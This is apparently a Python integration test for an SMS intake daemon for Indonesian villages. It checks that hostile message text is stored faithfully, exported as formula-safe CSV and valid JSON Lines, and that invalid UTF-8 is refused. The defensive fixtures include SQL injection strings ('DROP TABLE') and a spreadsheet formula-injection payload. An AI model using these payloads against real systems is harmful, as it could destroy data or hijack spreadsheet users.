"""Issue 9, hostile text: inbound messages with NUL bytes, 10,000 characters, right-to-left marks,
SQL- and formula-looking text are stored exactly as sent (inbox and aspirations) and exported safely
(CSV neutralises formulas, JSON Lines stays valid JSON); invalid UTF-8 (stray bytes, overlong
sequences, lone surrogates) cannot enter through the admin API or the CLI: it is refused with a clear
error and stores nothing (real channels hand the daemon decoded text: the GSM decoders replace what
they cannot decode with U+FFFD). A broadcast of such text: the dry run prices it, the real one
reaches the phones exactly."""

# ctest-timeout: 180

import csv
import io
import json
import os
import subprocess
import time
import unicodedata
import urllib.error
import urllib.request

import harness
from harness import DaemonTest

# Residents of examples/desa-ekasari (anggota.csv), all sms.
PHONES = ["+62812000001%02d" % i for i in range(1, 10)]

HOSTILE = [
    ("nul", "ada\x00nul di tengah"),
    ("long", "panjang " + "x" * 9992),  # 10,000 characters
    ("rtl", "\u202eabc\u202c jalan \u200frusak\u200f \u2067kiri\u2069 \u061cdan \ufeffBOM"),
    ("sql", "'; DROP TABLE aspirations; -- \" OR 1=1 --"),
    ("formula", '=HYPERLINK("http://contoh.invalid/?x="&A1;"klik di sini")'),
    ("plus", "+62 812 xxx =1+1"),
    ("minus", "-2+3 jembatan"),
    ("at", "@SUM(A1:A9) irigasi"),
    ("tab", "\t=1+1 tab di depan"),
    ("cr", "\r=1+1 CR di depan"),
    ("quotes", 'kata "kutip", koma; titik-koma\r\nbaris baru\nlagi'),
    ("emoji", "banjir 🌊🌊 di RT 03 — segera! ✔️ \U0001F9D1\u200d\U0001F33E"),
    ("controls", "bel\x07 esc\x1b[31m merah\x1b[0m del\x7f"),
]


# Unicode White_Space (what ICU's u_isUWhiteSpace says), as the intake collapses it.
WHITE_SPACE = set("\t\n\v\f\r \x85\xa0\u1680\u2028\u2029\u202f\u205f\u3000") | {chr(c) for c in range(0x2000, 0x200B)}


def normalised(text):
    """What intake::normalise_text makes of `text` (the aspiration's working copy)."""
    out, pending = [], False
    for ch in text:
        if ch in WHITE_SPACE:
            pending = True
            continue
        if ch in ("\u200b", "\ufeff") or unicodedata.category(ch) == "Cc":
            continue
        if pending and out:
            out.append(" ")
        pending = False
        out.append(ch)
    return unicodedata.normalize("NFC", "".join(out))


def first_invalid_utf8(data):
    try:
        data.decode("utf-8")  # strict: overlong forms, surrogates and > U+10FFFF are errors too
    except UnicodeDecodeError as e:
        return e.start
    return None


class HostileTextTest(DaemonTest):

    def config(self):
        # Many messages from a few phones within a minute: no flood control in the way, and the same
        # text twice from one phone (API, then CLI) is a second aspiration, not a duplicate.
        return harness.test_config(limits={"inbound_per_minute": 1000, "auto_replies_per_hour": 1000,
                                           "dedupe_window_s": 0})

    def row_counts(self):
        return {t: self.d.db_query('SELECT count(*) FROM "%s"' % t)[0][0] for t in ("inbox", "aspirations", "outbox", "broadcasts")}

    def post_raw(self, path, data):
        req = urllib.request.Request("http://%s%s" % (self.d.listen, path), data=data, method="POST")
        req.add_header("Content-Type", "application/json")
        req.add_header("Authorization", "Bearer " + self.d.token())
        try:
            with urllib.request.urlopen(req, timeout=30) as r:
                return r.status, r.read()
        except urllib.error.HTTPError as e:
            return e.code, e.read()

    def cli_bytes(self, *args):
        """Runs `kentongan GLOBAL… ARGS…` with arguments that may be bytes; output stays bytes."""
        return subprocess.run([harness.KENTONGAN] + self.d.global_args() + list(args), capture_output=True,
                              timeout=harness.CLI_TIMEOUT_S, cwd=self.d.dir)

    def wait_inbox(self, count):
        deadline = time.monotonic() + harness.FINISH_DEADLINE_S
        while time.monotonic() < deadline:
            n = self.d.db_query("SELECT count(*) FROM inbox")[0][0]
            if n >= count:
                return n
            time.sleep(0.1)
        self.fail("inbox never reached %d rows:\n%s" % (count, self.d.log_text()))

    def aspirations_settled(self, count):
        deadline = time.monotonic() + harness.FINISH_DEADLINE_S
        while time.monotonic() < deadline:
            if self.d.db_query("SELECT count(*) FROM aspirations")[0][0] >= count:
                return
            time.sleep(0.1)
        self.fail("aspirations never reached %d:\n%s" % (count, self.d.log_text()))

    def test_stored_faithfully_and_exported_safely(self):
        # Through the admin API (JSON escapes carry NUL and control characters)...
        for i, (label, text) in enumerate(HOSTILE):
            status, body = self.d.http("POST", "/api/sim/inbound", {"from": PHONES[i % len(PHONES)], "text": text})
            self.assertEqual(status, 202, (label, body))
        # ...and through the CLI (argv: everything but NUL).
        cli_texts = [(label, text) for label, text in HOSTILE if "\x00" not in text and len(text) < 5000]
        for label, text in cli_texts:
            self.d.cli("sim", "send", "--from", PHONES[0], "--", text)
        total = len(HOSTILE) + len(cli_texts)
        self.wait_inbox(total)
        self.aspirations_settled(total)

        stored = [r[0] for r in self.d.db_query("SELECT text FROM inbox ORDER BY id")]
        expected = [t for _, t in HOSTILE] + [t for _, t in cli_texts]
        self.assertEqual(len(stored), len(expected))
        for got, want in zip(stored, expected):
            self.assertEqual(got, want, "inbox text changed: %r" % want[:60])
        # Every one became an aspiration (unmatched = aspiration). Its text is the intake's working
        # copy (intake/text.hpp normalise_text: NFC, control characters and zero-width spaces dropped,
        # whitespace runs collapsed); the resident's exact words stay in the inbox row it points at.
        rows = self.d.db_query("SELECT a.text, i.text FROM aspirations a JOIN inbox i ON i.id = a.inbox_id ORDER BY a.id")
        self.assertEqual(len(rows), len(expected))
        self.assertEqual(sorted(raw for _, raw in rows), sorted(expected), "an aspiration's inbox text changed")
        for got, raw in rows:
            self.assertEqual(got, normalised(raw), "aspiration text: %r" % raw[:60])
        # Its deadlines count from when the resident sent it: the inbox row's time, not the handling's.
        self.assertEqual(self.d.db_query("SELECT count(*) FROM aspirations a JOIN inbox i ON i.id = a.inbox_id "
                                         "WHERE a.received_at != i.received_at")[0][0], 0)
        asp = [r[0] for r in self.d.db_query("SELECT text FROM aspirations ORDER BY id")]
        # The SQL-looking text did nothing: the tables are all there.
        tables = {r[0] for r in self.d.db_query("SELECT name FROM sqlite_master WHERE type = 'table'")}
        self.assertTrue({"aspirations", "outbox", "inbox", "broadcasts"} <= tables)
        self.assertEqual(self.d.db_query("PRAGMA integrity_check")[0][0], "ok")

        # CSV export: formulas neutralised, quoting per RFC 4180, texts otherwise unchanged.
        path = os.path.join(self.d.dir, "aspirasi.csv")
        self.d.cli("export", "aspirations", "--format", "csv", "--output", path)
        with open(path, "rb") as f:
            raw = f.read()
        rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))
        self.assertEqual(len(rows), len(asp))
        for row, text in zip(rows, asp):
            cell = row["text"]
            if text[:1] in ("=", "+", "-", "@", "\t", "\r"):
                self.assertEqual(cell, "'" + text, "formula not neutralised")
            else:
                self.assertEqual(cell, text)
            for other in row.values():
                self.assertNotIn(other[:1], ("=", "+", "-", "@"), "a cell a spreadsheet would evaluate: %r" % other[:40])

        # JSON Lines: every line valid JSON, texts exact (NUL as \\u0000), one line per aspiration.
        out = self.d.cli("export", "aspirations", "--format", "jsonl").stdout
        lines = out.split("\n")
        self.assertEqual(lines[-1], "")
        parsed = [json.loads(line) for line in lines[:-1]]
        self.assertEqual([p["text"] for p in parsed], asp)

        # The status of what is listed through the admin API is exact too.
        status, listed = self.d.http("GET", "/api/aspirations?limit=1000")
        self.assertEqual(status, 200)
        self.assertEqual(sorted(a["text"] for a in listed["aspirations"]), sorted(asp))

    def test_invalid_utf8_is_refused_and_stores_nothing(self):
        before = self.row_counts()
        bad = [b"\xff\xfe", b"\xc0\xaf", b"\xe0\x80\xaf", b"\xf0\x80\x80\xaf",  # stray, overlong '/' in 2, 3, 4 bytes
               b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"abc\x80", b"\xc3"]     # surrogate, above U+10FFFF, lone continuation, cut
        for b in bad:
            body = b'{"from": "' + PHONES[0].encode() + b'", "text": "LAPOR ' + b + b' rusak"}'
            status, reply = self.post_raw("/api/sim/inbound", body)
            self.assertEqual(status, 400, (b, reply))
            self.assertIn(b"JSON", reply)
            # The answer names where: the offset of the first byte that is not UTF-8.
            self.assertIn(b"invalid UTF-8 at byte %d" % first_invalid_utf8(body), reply)
            # The CLI refuses it before it reaches the daemon, with a message and no crash.
            arg = b"LAPOR " + b + b" rusak"
            p = self.cli_bytes("sim", "send", "--from", PHONES[0], "--", arg)
            self.assertEqual(p.returncode, 2, (b, p.stderr))  # a usage error, not a crash or a signal
            self.assertIn(b"error: text is not valid UTF-8 at byte %d (save the text as UTF-8)" % first_invalid_utf8(arg),
                          p.stderr)
        # Every CLI command that puts the user's text into a request checks it the same way.
        path = os.path.join(self.d.dir, "pengumuman-latin1.txt")
        with open(path, "wb") as f:
            f.write(b"Kerja bakti di balai desa, caf\xe9 gratis\n")  # saved as Latin-1, not UTF-8
        for args, name, at in [
                (["broadcast", "--all", "--text", b"Rapat \xed\xa0\x80 malam"], b"--text", 6),
                (["broadcast", "--all", "--dry-run", "--file", path], b"--file", 30),
                (["aspirations", "reply", "A0001", b"Sudah \xc0\xaf diperbaiki"], b"text", 6),
                (["aspirations", "reject", "A0001", b"\xff"], b"reason", 0)]:
            p = self.cli_bytes(*args)
            self.assertEqual(p.returncode, 2, (args, p.stderr))
            self.assertIn(b"error: " + name + b" is not valid UTF-8 at byte %d (save the text as UTF-8)" % at, p.stderr)
        for escaped in (b"\\ud800", b"\\udfff", b"\\ud800\\u0041"):  # lone surrogates as JSON escapes
            body = b'{"from": "' + PHONES[0].encode() + b'", "text": "LAPOR ' + escaped + b'"}'
            status, reply = self.post_raw("/api/sim/inbound", body)
            self.assertEqual(status, 400, (escaped, reply))
            self.assertIn(b"surrogate", reply)
        status, reply = self.post_raw("/api/broadcasts", b'{"text": "\xc0\xaf", "all": true}')
        self.assertEqual(status, 400, reply)
        self.assertIn(b"invalid UTF-8 at byte 10", reply)
        self.assertIn("reason=invalid_utf8", self.d.log_text(tail=None))
        self.assertEqual(self.row_counts(), before)
        self.assertIsNone(self.d.proc.poll())

    def test_broadcast_of_hostile_text(self):
        text = ('=HYPERLINK("http://x.invalid";"klik") \'; DROP TABLE outbox; -- \u200fRTL\u202e '
                '"kutip", koma; tab\there baris')
        # Dry run: priced, nothing stored.
        before = self.row_counts()
        plan = self.d.cli_json("broadcast", "--group", "perangkat-desa", "--dry-run", "--json", "--text", text)
        self.assertGreater(plan["recipients"], 0, plan)
        self.assertEqual(plan["encoding"], "ucs2", plan)  # the RTL marks are not GSM 7-bit
        self.assertEqual(self.row_counts(), before)
        # 10,000 characters: priced (or refused with a reason), never a crash.
        status, plan = self.d.http("POST", "/api/broadcasts", {"text": "x" * 10000, "groups": ["perangkat-desa"],
                                                               "dry_run": True})
        self.assertIn(status, (200, 400), plan)
        if status == 200:
            self.assertGreater(plan["parts_per_message"], 60, plan)
        status, plan = self.d.http("POST", "/api/broadcasts", {"text": "a\u0000b", "groups": ["perangkat-desa"],
                                                               "dry_run": True})
        self.assertIn(status, (200, 400), plan)
        self.assertEqual(self.row_counts(), before)

        # The real one: stored exactly, every member's phone gets exactly the text.
        bid = self.d.broadcast("--group", "perangkat-desa", "--text", text)
        self.assertEqual(self.d.db_query("SELECT text FROM broadcasts WHERE id = ?", (bid,))[0][0], text)
        s = self.d.wait_done(bid)
        self.assertEqual(s["failed"], 0, s)
        self.assertEqual(s["text"], text)
        recorded = text.replace("\t", " ")  # the simulated phones' record file is tab-separated
        got = self.d.received(recorded)
        self.assertEqual(len(got), s["recipients"], self.d.phone_messages()[-5:])
        self.assertTrue(all(n == 1 for n in got.values()), got)
        # Its delivery export: JSON Lines valid, CSV without an evaluable cell.
        out = self.d.cli("export", "deliveries", "--broadcast", str(bid), "--format", "jsonl").stdout
        for line in out.splitlines():
            json.loads(line)
        out = self.d.cli("export", "deliveries", "--broadcast", str(bid), "--format", "csv").stdout
        for row in csv.reader(io.StringIO(out, newline="")):
            for cell in row:
                self.assertNotIn(cell[:1], ("=", "+", "-", "@"), row)


if __name__ == "__main__":
    harness.parse_args_and_run()
